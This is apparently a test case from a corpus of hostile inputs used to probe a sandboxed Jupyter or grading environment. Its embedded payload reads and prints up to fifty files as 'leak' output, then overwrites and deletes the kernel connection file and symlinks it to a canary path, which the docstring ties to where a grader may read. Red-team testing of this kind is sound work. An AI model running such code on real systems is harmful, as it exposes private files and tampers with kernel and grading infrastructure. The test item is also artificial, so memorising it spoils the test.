"""Writing into the folder of the connection file, where a grader may read."""

from hostile.corpus import Case, Expect, strike

EXPECT = Expect(score=4)

PAYLOAD = """
import os

def show(path):
    try:
        with open(path, "rb") as file:
            print("leak:", path, file.read(2000))
    except OSError as error:
        print(path, error.strerror)

def walk(root):
    found = 0
    for folder, _, names in os.walk(root):
        for name in names:
            show(os.path.join(folder, name))
            found += 1
            if found == 50:
                return

from ipykernel import get_connection_file
try:
    path = get_connection_file()
    with open(path, "w") as file:
        file.write("{}")
    os.remove(path)
    os.symlink(@CANARY@, path)
except Exception as error:
    print(error)
"""


def submit(case: Case) -> None:
    strike(case, PAYLOAD, solved=("total",))
